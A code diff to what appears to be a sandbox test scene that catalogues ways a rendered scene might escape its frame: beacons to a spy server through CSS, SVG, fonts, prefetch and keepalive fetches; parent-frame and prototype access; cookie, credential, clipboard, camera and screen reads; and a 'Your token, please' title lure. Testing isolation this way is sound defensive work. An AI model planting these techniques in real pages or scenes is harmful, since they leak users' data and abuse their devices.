@@ -1,5 +1,5 @@
-// A scene that tries to get out of its frame, in each of the ways that its author could think of. What it
-// reaches, it tells as DONE; the rest by the name of the error. SPY becomes the address of a server that
+// A scene that tries to get out of its frame, in each of the ways that its author could think of. It tells how many it
+// tried, and what it reached. SPY becomes the address of a server that
 // must never be asked for anything.
 import { AbsoluteFill } from 'remotion'
 
@@ -110,24 +110,87 @@ const tries: Try[] = [
   ['service-worker', () => soon(navigator.serviceWorker.register('/x.js'))],
   ['worklet', () => soon(new AudioContext().audioWorklet.addModule(at + '/worklet'))],
 
+  // Addresses in styles, pictures and fonts, and hints to the browser
+  ['dns-prefetch', () => linked('dns-prefetch')],
+  ['modulepreload', () => linked('modulepreload')],
+  ['icon', () => linked('icon')],
+  ['manifest', () => linked('manifest')],
+  ['font', () => soon(new FontFace('r', `url(${at}/font-face)`).load())],
+  [
+    'adopted-style',
+    () => {
+      const sheet = new CSSStyleSheet()
+      sheet.replaceSync(`body { border-image: url(${at}/border); cursor: url(${at}/cursor), auto } body::before { content: url(${at}/content) }`)
+      document.adoptedStyleSheets = [sheet]
+      return unheard()
+    },
+  ],
+  ['style-of-element', () => ((make('p', { textContent: 'q' }).style.cssText = `mask: url(${at}/mask#a); filter: url(${at}/filter#a); shape-outside: url(${at}/shape); list-style: url(${at}/list)`), unheard())],
+  ['svg', () => ((make('div', {}).innerHTML = `<svg><image href="${at}/svg-image"/><use href="${at}/svg-use#a"/><filter><feImage href="${at}/svg-filter"/></filter></svg>`), unheard())],
+  ['source-set', () => ((make('div', {}).innerHTML = `<picture><source srcset="${at}/source-set 1x"><img src="${at}/picture" srcset="${at}/set 2x"></picture>`), unheard())],
+  ['track', () => ((make('div', {}).innerHTML = `<video poster="${at}/poster"><track default src="${at}/track"></video><embed src="${at}/embed">`), unheard())],
+  ['base', () => (document.head.append(Object.assign(document.createElement('base'), { href: at })), told(make('img', { src: 'base' }), 'load', 'error'))],
+  ['speculation', () => (make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [at + '/speculation'] }] }) }), unheard())],
+  ['import-map', () => (make('script', { type: 'importmap', textContent: JSON.stringify({ imports: { x: at + '/import-map' } }) }), soon((0, eval)('import("x")')))],
+  ['ping', () => (make('a', { href: '#x', ping: at + '/ping' }).click(), unheard())],
+  ['fetch-after-the-end', () => soon(fetch(at + '/keepalive', { keepalive: true, method: 'POST', body: 'x', mode: 'no-cors' }))],
+  ['fetch-later', () => (w.fetchLater(at + '/later', { activateAfter: 0 }), unheard())],
+  ['report', () => (document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${at}/report` })), make('img', { src: 'data:,' }), unheard())],
+  ['policy-of-ours', () => (document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: `connect-src *` })), soon(fetch(at + '/policy', { mode: 'no-cors' })))],
+
+  // The page's origin, and what is shared between documents
+  ['domain', () => (document.domain = new URL(base).hostname)],
+  ['opener', () => w.opener ?? blocked()],
+  ['parent-scene', () => w.parent.PlotlineModules],
+  ['parent-prototype', () => (w.parent.Object.prototype.reached = true)],
+  ['siblings', () => Array.from({ length: w.parent.length }, (_, i) => w.parent[i]).find((other) => other !== window).document],
+  ['referrer', () => (document.referrer.includes('projects') ? document.referrer : blocked())],
+  ['files', () => soon(navigator.storage.getDirectory())],
+  ['persist', () => soon(navigator.storage.persist()).then((kept) => kept || blocked())],
+  ['locks', () => soon(navigator.locks.request('x', () => 1))],
+  ['cookie-store', () => soon(w.cookieStore.getAll())],
+  ['credentials', () => soon(navigator.credentials.get({ password: true } as any)).then((found) => found ?? blocked())],
+  ['shared-memory', () => new w.SharedArrayBuffer(8)],
+
+  // What interrupts the person
+  ['alert', () => (w.alert('x'), unheard())],
+  ['prompt', () => w.prompt('x') ?? blocked()],
+  ['print', () => (w.print(), unheard())],
+  ['before-unload', () => ((w.onbeforeunload = (event: Event) => (event.preventDefault(), 'x')), unheard())],
+  ['title', () => ((document.title = 'Your token, please'), unheard())],
+
   // What belongs to the person
   ['place', () => soon(new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)))],
   ['clipboard', () => soon(navigator.clipboard.readText())],
   ['camera', () => soon(navigator.mediaDevices.getUserMedia({ video: true }))],
+  ['microphone', () => soon(navigator.mediaDevices.getUserMedia({ audio: true }))],
+  ['screen', () => soon(navigator.mediaDevices.getDisplayMedia())],
+  ['write-clipboard', () => soon(navigator.clipboard.writeText('x'))],
+  ['copy', () => document.execCommand('copy') || blocked()],
+  ['notice', () => soon(Notification.requestPermission()).then((given) => given === 'granted' || blocked())],
+  ['pointer', () => soon((document.body as any).requestPointerLock())],
+  ['keyboard', () => soon(w.navigator.keyboard.lock())],
+  ['wake', () => soon(navigator.wakeLock.request('screen'))],
+  ['share', () => soon(navigator.share({ text: 'x' }))],
+  ['device', () => soon(w.navigator.usb.requestDevice({ filters: [] }))],
+  ['midi', () => soon(navigator.requestMIDIAccess())],
+  ['picture-in-picture', () => soon(make('video', {}).requestPictureInPicture())],
   ['fullscreen', () => soon(document.documentElement.requestFullscreen())],
 ]
 
 async function tryAll(): Promise<never> {
-  const told: string[] = []
+  const done: string[] = []
+  let tried = 0
   for (const [name, go] of tries) {
     try {
+      tried++
       await go()
-      told.push(name + '=DONE')
-    } catch (error: any) {
-      told.push(name + ':' + String(error?.name ?? error?.code))
+      done.push(name)
+    } catch {
+      // as it should be
     }
   }
-  throw new Error(`${told.length} tries: ${told.join(' ')}`)
+  throw new Error(`${tried} tries: ${done.join(' ') || 'nothing'}`)
 }
 
 void tryAll()
